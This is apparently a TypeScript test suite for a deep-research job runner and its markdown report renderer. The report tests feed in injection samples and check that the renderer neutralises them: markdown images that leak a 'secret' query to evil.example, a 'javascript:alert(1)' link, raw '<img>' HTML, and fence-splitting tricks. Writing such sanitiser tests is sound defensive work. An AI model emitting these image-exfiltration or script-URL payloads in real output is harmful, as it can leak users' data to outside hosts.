import assert from 'node:assert/strict';
import { Failure } from '../../../../src/core/base/failure';
import { readStep } from '../../../../src/core/interactions/steps';
import type { ResearchJob } from '../../../../src/core/research/job';
import { toReport } from '../../../../src/core/research/report';
import { ResearchJobs } from '../../../../src/core/research/researchJobs';
import { MemoryResearchStore } from '../../fakes/memoryResearchStore';
import { serverUnderTest } from '../../gemini/serverUnderTest';

const agent = 'deep-research-preview-04-2026';

describe('ResearchJobs', () => {
  const under = serverUnderTest({ researchMs: 30 });
  let store: MemoryResearchStore;
  const open: ResearchJobs[] = [];

  beforeEach(() => {
    store = new MemoryResearchStore();
  });
  afterEach(() => {
    for (const jobs of open.splice(0)) jobs.dispose();
  });

  function jobs(): ResearchJobs {
    const made = new ResearchJobs({
      interactions: under.client,
      store,
      newId: () => crypto.randomUUID(),
      now: () => Date.now(),
      sourcesHeading: 'Sources',
      onError: (error) => assert.fail(String(error)),
    });
    open.push(made);
    return made;
  }
  const until = (made: ResearchJobs, state: ResearchJob['state']) =>
    new Promise<ResearchJob>((resolve) => {
      made.onDidChange((job) => job.state === state && resolve(job));
    });

  it('runs from the question to the report with its sources', async () => {
    const made = jobs();
    const done = until(made, 'done');
    await made.start('Heat pumps in old houses', agent);

    const job = await done;

    assert.deepEqual(store.states, ['starting', 'running', 'done']);
    const report = store.reports.get(job.id);
    assert.match(report?.markdown ?? '', /^# /m);
    assert.match(report?.markdown ?? '', /https?:\/\//);
  });

  it('goes on after a restart without starting again', async () => {
    under.server.holdAfter(2);
    const before = jobs();
    await before.start('Heat pumps', agent);
    await under.server.held();
    before.dispose();

    const after = jobs();
    const done = until(after, 'done');
    await after.resume();
    under.server.release();
    await done;

    assert.equal(under.server.requests.filter((request) => request.method === 'POST').length, 1);
    assert.equal(store.reports.size, 1);
  });

  it('counts as cancelled once the service says so', async () => {
    under.server.holdAfter(2);
    const made = jobs();
    const cancelled = until(made, 'cancelled');
    const job = await made.start('Heat pumps', agent);
    await under.server.held();

    await made.cancel(job.id);

    assert.equal((await cancelled).id, job.id);
    assert.deepEqual(store.states, ['starting', 'running', 'cancelling', 'cancelled']);
  });

  it('is uncertain, and not repeated, when the start was cut off', async () => {
    under.server.answerNext({ drop: true });
    const made = jobs();

    await assert.rejects(made.start('Heat pumps', agent), Failure);

    assert.deepEqual(store.states, ['starting', 'uncertain']);
    assert.equal(under.server.requests.length, 1);
  });

  it('has failed when the service refused it', async () => {
    under.server.answerNext({ status: 429, body: { error: { code: 'rate_limit_exceeded', message: '' } } });
    const made = jobs();

    await assert.rejects(made.start('Heat pumps', agent), Failure);

    assert.deepEqual(store.states, ['starting', 'failed']);
  });
});

describe('the report', () => {
  const step = (...content: unknown[]) => readStep({ type: 'model_output', content: content as never });

  it('shows pictures that came with it and turns pictures from elsewhere into links', () => {
    const { markdown, pictures } = toReport(
      'Q',
      [
        step({ type: 'text', text: '# T\n\n![chart](https://evil.example/?q=secret)\n' }),
        step({ type: 'image', mime_type: 'image/png', data: 'AAAA' }),
      ],
      'Sources',
    );

    assert.deepEqual(pictures, [{ name: 'figure-1.png', data: 'AAAA' }]);
    assert.match(markdown, /!\[\]\(figure-1\.png\)/);
    assert.doesNotMatch(markdown, /!\[[^\]]*\]\(https?:/);
  });

  it('joins all its outputs, and gives a line of its own to one that begins a block', () => {
    const output = (text: string) => readStep({ type: 'model_output', content: [{ type: 'text', text }] });
    const steps = [output('# Title\n\nFirst, cut in mid-'), readStep({ type: 'thought', signature: 'x' })];

    const { markdown } = toReport(
      'Q',
      [...steps, output('sentence.'), output('## Second'), output('\n\nEnd.')],
      'Sources',
    );

    assert.equal(markdown, '# Title\n\nFirst, cut in mid-sentence.\n\n## Second\n\nEnd.\n');
  });

  it('lists the sources it was not told in its text', () => {
    const annotations = [
      { type: 'url_citation', url: 'https://a.example/1', title: 'A [x]', start_index: 0, end_index: 1 },
      { type: 'url_citation', url: 'javascript:alert(1)', title: 'B', start_index: 0, end_index: 1 },
    ];
    const { markdown } = toReport('Q', [step({ type: 'text', text: 'Body', annotations })], 'Sources');

    assert.match(markdown, /## Sources\n\n1\. \[A \\\[x\\\]\]\(<https:\/\/a\.example\/1>\)/);
    assert.doesNotMatch(markdown, /javascript:/);
  });

  it('makes no picture of marks that merely stand before a link, or of what comes in two pieces', () => {
    const texts = (...pieces: readonly string[]) => pieces.map((text) => ({ type: 'text', text }));
    const written = [
      ['!![a](https://evil.example/1)'],
      ['Look!', '[a](https://evil.example/2)'],
      ['![a]', '(https://evil.example/3)'],
      ['```\n', 'code', '\n```\n![a](https://evil.example/4)'],
      ['   ```\n```\n![a](https://evil.example/5)'],
      ['- ```\n  ```\n![a](https://evil.example/6)'],
    ];
    for (const pieces of written) {
      const { markdown } = toReport('Q', [step(...texts(...pieces))], 'Sources');
      assert.match(markdown, /evil/);
      assert.doesNotMatch(markdown, /(?<!\\)!\[/, pieces.join('|'));
    }
  });

  it('closes code that was cut, so that what follows is not part of it', () => {
    const picture = { type: 'image', mime_type: 'image/png', data: 'AAAA' };
    const texts = ['```\ncode', '```\n![a](https://evil.example/)'].map((text) => ({ type: 'text', text }));

    const { markdown } = toReport('Q', [step(texts[0], picture, texts[1])], 'Sources');

    assert.match(markdown, /```\ncode\n```\n\n!\[\]\(figure-1\.png\)\n\n```\n!\[a\]\(https:\/\/evil\.example\/\)\n```/);
  });

  it('keeps HTML as text and code as it is', () => {
    const text = (markdown: string) => toReport('Q', [step({ type: 'text', text: `# T\n\n${markdown}` })], '').markdown;
    assert.equal(text('a <img src=x> <https://ok.example>'), '# T\n\na &lt;img src=x> <https://ok.example>\n');
    const code = '```html\n<img src=x>\n![a](b)\n```';
    assert.equal(text(code), `# T\n\n${code}\n`);
    assert.equal(text('``` not `a fence\n<b>'), '# T\n\n\\`\\`\\` not \\`a fence\n&lt;b>\n');
  });
});
